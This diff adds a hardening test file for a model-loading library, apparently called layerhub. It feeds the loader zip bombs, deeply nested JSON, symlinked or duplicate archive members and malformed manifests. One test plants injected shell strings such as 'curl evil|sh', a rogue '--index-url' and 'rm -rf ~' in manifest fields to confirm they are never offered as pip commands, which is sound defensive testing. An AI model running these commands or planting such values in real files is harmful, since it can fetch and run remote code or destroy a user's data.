@@ -1,0 +1,402 @@
+"""Specific hostile model files: each one is refused with a one-line LayerHubError.
+
+Deep nesting, zip bombs, duplicate or disguised archive members, bytes that are not UTF-8 or JSON
+that is not an object, manifests of the wrong shape or with shell in them, garbage in a Keras 2
+``.h5`` file, symlinked paths, unknown registered names and a custom loss that is not available.
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import json
+import re
+import stat
+import sys
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import h5py
+import numpy as np
+import pytest
+from packaging.utils import canonicalize_name
+from packaging.version import Version
+
+import layerhub
+from layerhub import LayerHubError, MissingPluginError, ModelFileError
+from layerhub.testing import run_in_fresh_interpreter
+
+
+def _helpers() -> Any:
+    name = "hardening_helpers"
+    if name not in sys.modules:
+        spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name("_hardening.py"))
+        assert spec is not None and spec.loader is not None
+        module = importlib.util.module_from_spec(spec)
+        sys.modules[name] = module
+        spec.loader.exec_module(module)
+    return sys.modules[name]
+
+
+H = _helpers()
+DEPTH = 100_000
+BOMB_SIZE = 200 * 2**20  # decompressed; ~200 KB compressed
+
+
+@pytest.fixture(scope="module")
+def good(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    """A Scale model saved once: its path, members, config and metadata."""
+    path = layerhub.save_model(H.scale_model(), tmp_path_factory.mktemp("good") / "good.keras")
+    members = H.read_members(path)
+    return {
+        "path": path,
+        "members": members,
+        "config": json.loads(members["config.json"]),
+        "metadata": json.loads(members["metadata.json"]),
+    }
+
+
+def refused(path: Path, kind: type[LayerHubError] = ModelFileError) -> Any:
+    """``load_model(path)`` raises ``kind`` with a one-line message; returns the error."""
+    with pytest.raises(Exception) as caught:  # noqa: PT011 - the type is checked below
+        layerhub.load_model(path)
+    message = H.assert_one_line(caught.value)
+    assert isinstance(caught.value, kind), f"{type(caught.value).__name__}: {message}"
+    return caught.value
+
+
+# Deep nesting -----------------------------------------------------------------------------------
+
+
+def nested_list(depth: int) -> str:
+    return "[" * depth + "]" * depth
+
+
+def nested_dict(depth: int) -> str:
+    return '{"a":' * depth + "0" + "}" * depth
+
+
+@pytest.mark.parametrize("nesting", [nested_list, nested_dict], ids=["list", "dict"])
+@pytest.mark.parametrize("where", ["top", "inside"])
+def test_deeply_nested_config(
+    tmp_path: Path, good: dict[str, Any], nesting: Callable[[int], str], where: str
+) -> None:
+    if where == "top":
+        text = nesting(DEPTH)
+    else:  # a valid model whose first layer config carries the nesting
+        text = json.dumps(good["config"]).replace('"config": {', '"config": {"deep": %s, ' % nesting(DEPTH), 1)
+    path = tmp_path / "deep.keras"
+    H.write_members(path, {**good["members"], "config.json": text.encode()})
+    refused(path)
+
+
+def test_huge_integer_literal(tmp_path: Path, good: dict[str, Any]) -> None:
+    # Beyond Python's int string-conversion limit: json.loads raises ValueError on it.
+    text = json.dumps(good["config"]).replace('"config": {', '"config": {"n": %s, ' % ("9" * 50_000), 1)
+    path = tmp_path / "int.keras"
+    H.write_members(path, {**good["members"], "config.json": text.encode()})
+    refused(path)
+
+
+# Zip bombs --------------------------------------------------------------------------------------
+
+BOMB_LOADER = """
+import json, resource, sys
+import layerhub
+
+def peak():
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
+
+layerhub.load_model(sys.argv[1])  # warm up: keras, the backend, the plugin, one model
+before = peak()
+try:
+    layerhub.load_model(sys.argv[2])
+    outcome = {"raised": None}
+except Exception as error:
+    outcome = {
+        "raised": type(error).__name__,
+        "layerhub": isinstance(error, layerhub.LayerHubError),
+        "model_file": isinstance(error, layerhub.ModelFileError),
+        "message": str(error)[:2000],
+    }
+outcome["growth"] = peak() - before
+print(json.dumps(outcome))
+"""
+
+
+def write_bomb(path: Path, members: dict[str, bytes], member: str) -> None:
+    """``member`` is its valid JSON followed by 200 MB of spaces (still valid JSON)."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in members.items():
+            if name != member:
+                zf.writestr(name, data)
+                continue
+            with zf.open(name, "w", force_zip64=True) as stream:
+                stream.write(data)
+                chunk = b" " * 2**22
+                for _ in range(BOMB_SIZE // len(chunk)):
+                    stream.write(chunk)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("member", ["config.json", "metadata.json"])
+def test_zip_bomb_is_refused_before_it_is_read(
+    tmp_path: Path, good: dict[str, Any], member: str
+) -> None:
+    path = tmp_path / "bomb.keras"
+    write_bomb(path, good["members"], member)
+    assert path.stat().st_size < 2 * 2**20
+    out = run_in_fresh_interpreter(BOMB_LOADER, str(good["path"]), str(path))
+    outcome = json.loads(out.stdout.strip().splitlines()[-1])
+    growth_mb = outcome["growth"] / 2**20
+    assert outcome["raised"] is not None, f"the bomb loaded (peak memory grew {growth_mb:.0f} MB)"
+    assert outcome["model_file"], f"{outcome['raised']}: {outcome['message']}"
+    assert "\n" not in outcome["message"] and len(outcome["message"]) <= H.MAX_MESSAGE
+    assert growth_mb < 50, f"peak memory grew {growth_mb:.0f} MB: {outcome['message']}"
+
+
+# Archive members --------------------------------------------------------------------------------
+
+
+def test_duplicate_config_members(tmp_path: Path, good: dict[str, Any]) -> None:
+    other = json.dumps(good["config"]).replace('"units": 2', '"units": 3').encode()
+    assert other != good["members"]["config.json"]
+    path = tmp_path / "dup.keras"
+    members = [(n, d) for n, d in good["members"].items()] + [("config.json", other)]
+    with pytest.warns(UserWarning, match="Duplicate name"):
+        H.write_members(path, members)
+    refused(path)
+
+
+def test_config_that_is_not_utf8(tmp_path: Path, good: dict[str, Any]) -> None:
+    data = good["members"]["config.json"].replace(b'"name": "', b'"name": "\xff\xfe\xc3(', 1)
+    path = tmp_path / "latin.keras"
+    H.write_members(path, {**good["members"], "config.json": data})
+    refused(path)
+
+
+@pytest.mark.parametrize("text", ["[1, 2, 3]", "42", "null", '"config"', "true", "{}", ""])
+def test_config_that_is_not_an_object(tmp_path: Path, good: dict[str, Any], text: str) -> None:
+    path = tmp_path / "notobj.keras"
+    H.write_members(path, {**good["members"], "config.json": text.encode()})
+    refused(path)
+
+
+def test_config_stored_as_a_directory_entry(tmp_path: Path, good: dict[str, Any]) -> None:
+    path = tmp_path / "dir.keras"
+    members = [(n if n != "config.json" else "config.json/", d) for n, d in good["members"].items()]
+    H.write_members(path, [(n, b"" if n.endswith("/") else d) for n, d in members])
+    refused(path)
+
+
+@pytest.mark.parametrize("body", ["path", "json"])
+def test_config_stored_as_a_symlink_member(tmp_path: Path, good: dict[str, Any], body: str) -> None:
+    # A symlink member's data is its target; a loader must not treat it as the config, whether
+    # the target is a path elsewhere or a string that happens to be valid JSON.
+    real = tmp_path / "real-config.json"
+    real.write_bytes(good["members"]["config.json"])
+    path = tmp_path / "link.keras"
+    with zipfile.ZipFile(path, "w") as zf:
+        for name, data in good["members"].items():
+            if name != "config.json":
+                zf.writestr(name, data)
+                continue
+            info = zipfile.ZipInfo("config.json")
+            info.create_system = 3  # unix
+            info.external_attr = (stat.S_IFLNK | 0o777) << 16
+            zf.writestr(info, str(real).encode() if body == "path" else data)
+    refused(path)
+
+
+def test_path_is_a_dangling_symlink(tmp_path: Path) -> None:
+    link = tmp_path / "dangling.keras"
+    link.symlink_to(tmp_path / "nowhere.keras")
+    refused(link)
+
+
+def test_path_is_a_symlink_to_a_directory(tmp_path: Path) -> None:
+    (tmp_path / "folder").mkdir()
+    link = tmp_path / "folder.keras"
+    link.symlink_to(tmp_path / "folder", target_is_directory=True)
+    refused(link)
+
+
+# Manifests --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "manifest",
+    [
+        {"format": 1, "objects": ["layerhub_scale>Scale"]},
+        {"format": 1, "objects": {"layerhub_scale>Scale": {"distribution": "layerhub-scale", "version": 1.0}}},
+        {"format": 1, "objects": {"layerhub_scale>Scale": {"distribution": 7, "version": [1]}}},
+        {"format": 1, "objects": {"layerhub_scale>Scale": "layerhub-scale==0.1.0"}},
+        {"format": "one", "objects": None},
+        "layerhub",
+        [],
+        None,
+    ],
+    ids=["objects-list", "version-number", "wrong-types", "entry-string", "format-string",
+         "manifest-string", "manifest-list", "manifest-null"],
+)
+def test_manifest_with_wrong_types_is_advisory(
+    tmp_path: Path, good: dict[str, Any], manifest: Any
+) -> None:
+    metadata = {**good["metadata"], "layerhub": manifest}
+    path = tmp_path / "manifest.keras"
+    H.write_members(path, {**good["members"], "metadata.json": json.dumps(metadata).encode()})
+    try:
+        model = layerhub.load_model(path)
+    except Exception as error:  # refusing is allowed; a stray TypeError is not
+        H.assert_one_line(error)
+    else:
+        x = np.ones((1, 3, 4), "float32")
+        assert model.predict(x, verbose=0).shape == (1, 3, 2)
+
+
+def absent_plugin_file(tmp_path: Path, good: dict[str, Any], distribution: Any, version: Any) -> Path:
+    registered = "layerhub_scale>Scale"
+    config = good["members"]["config.json"].decode().replace(registered, "layerhub_absent>Foo")
+    metadata = json.loads(json.dumps(good["metadata"]))
+    metadata["layerhub"]["objects"] = {
+        "layerhub_absent>Foo": {"distribution": distribution, "version": version}
+    }
+    path = tmp_path / "absent.keras"
+    H.write_members(
+        path,
+        {**good["members"], "config.json": config.encode(), "metadata.json": json.dumps(metadata).encode()},
+    )
+    return path
+
+
+def valid_pip_command(command: str) -> bool:
+    if not re.fullmatch(r"pip install( \S+)+", command):
+        return False
+    for requirement in command.removeprefix("pip install ").split(" "):
+        name, sep, version = requirement.partition("==")
+        try:
+            canonicalize_name(name, validate=True)
+            if sep and str(Version(version)) != version:
+                return False
+        except ValueError:
+            return False
+        if name.startswith("-"):
+            return False
+    return True
+
+
+@pytest.mark.parametrize(
+    ("distribution", "version"),
+    [
+        ("layerhub-x; curl evil|sh", "1.0"),
+        ("--index-url=http://evil/ layerhub-x", "1.0"),
+        ("layerhub-absent\nrm -rf ~", "1.0"),
+        ("layerhub-evil", "1.0"),
+        ("layerhub-absent", "1.0 && rm -rf ~"),
+        ("layerhub-absent", "1.0\nrm -rf ~"),
+        ("layerhub-absent", "1.0\n"),
+        ("layerhub-absent", "--pre"),
+    ],
+)
+def test_manifest_claims_are_never_offered_as_commands(
+    tmp_path: Path, good: dict[str, Any], distribution: str, version: str
+) -> None:
+    path = absent_plugin_file(tmp_path, good, distribution, version)
+    error = refused(path, MissingPluginError)
+    message = str(error)
+    assert "layerhub_absent>Foo" in message
+    assert f"pip install {distribution}" not in message
+    if error.pip_command is not None:
+        assert valid_pip_command(error.pip_command), error.pip_command
+        assert error.pip_command in ("pip install layerhub-absent", "pip install layerhub-absent==1.0")
+    if distribution != "layerhub-absent":  # the file's claim is not the plugin's distribution
+        assert "suspicious" in message.lower(), message
+        assert "layerhub-absent" in message, message
+        assert error.pip_command in (None, "pip install layerhub-absent"), error.pip_command
+    else:  # the distribution is fine, the version is not: never pinned
+        assert "==1.0 " not in message and "&&" not in message.split("run:")[-1]
+        assert error.pip_command in (None, "pip install layerhub-absent"), error.pip_command
+
+
+def test_valid_manifest_claim_gives_the_pip_line(tmp_path: Path, good: dict[str, Any]) -> None:
+    path = absent_plugin_file(tmp_path, good, "layerhub-absent", "1.2.0")
+    error = refused(path, MissingPluginError)
+    assert error.pip_command == "pip install layerhub-absent==1.2.0"
+    assert "suspicious" not in str(error).lower()
+
+
+# Names that no installed plugin provides ----------------------------------------------------
+
+
+def test_unknown_registered_name_is_never_imported(
+    tmp_path: Path, good: dict[str, Any], site: Path
+) -> None:
+    marker = H.write_evil_package(site)
+    text = good["members"]["config.json"].decode()
+    text = text.replace("layerhub_scale>Scale", "evil_mod>Boom")
+    text = text.replace('"module": "layerhub_scale', '"module": "evil_mod', 1)
+    assert '"module": "evil_mod' in text
+    path = tmp_path / "evil.keras"
+    H.write_members(path, {**good["members"], "config.json": text.encode()})
+    try:
+        message = str(refused(path, MissingPluginError))
+        assert "evil_mod>Boom" in message
+        assert "custom_objects" in message
+    finally:
+        H.assert_evil_not_imported(marker)
+
+
+USER_LOSS_SAVER = """
+import sys
+import keras
+import layerhub
+from layerhub_scale import Scale
+
+@keras.saving.register_keras_serializable(package="my_project", name="my_loss")
+def my_loss(y_true, y_pred):
+    return keras.ops.mean(keras.ops.square(y_true - y_pred))
+
+inputs = keras.Input((3,))
+model = keras.Model(inputs, keras.layers.Dense(1)(Scale()(inputs)))
+model.compile(optimizer="adam", loss=my_loss)
+layerhub.save_model(model, sys.argv[1])
+"""
+
+
+@pytest.mark.slow
+def test_users_own_loss_not_available(tmp_path: Path) -> None:
+    path = tmp_path / "loss.keras"
+    run_in_fresh_interpreter(USER_LOSS_SAVER, str(path))
+    with zipfile.ZipFile(path) as zf:
+        assert "my_project>my_loss" in zf.read("config.json").decode()
+    message = str(refused(path, LayerHubError))
+    assert "my_project>my_loss" in message
+    assert "compile=False" in message
+    assert "custom_objects" in message
+    assert layerhub.load_model(path, compile=False).predict(np.ones((1, 3)), verbose=0).shape == (1, 1)
+
+
+# Keras 2 .h5 files ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "this is not json {",
+        "[1, 2, 3]",
+        "null",
+        '{"no": "class_name"}',
+        nested_list(DEPTH),
+        '{"class_name": "Functional", "config": %s}' % nested_dict(DEPTH),
+        b"\xff\xfe{not utf-8",
+    ],
+    ids=["not-json", "list", "null", "no-class", "deep-list", "deep-dict", "not-utf8"],
+)
+def test_h5_with_garbage_model_config(tmp_path: Path, value: Any) -> None:
+    path = tmp_path / "garbage.h5"
+    with h5py.File(path, "w", libver="latest") as h5:  # dense attribute storage: > 64 KB values
+        h5.attrs["model_config"] = np.bytes_(value) if isinstance(value, bytes) else value
+        h5.attrs["keras_version"] = "2.15.0"
+        h5.attrs["backend"] = "tensorflow"
+    refused(path)
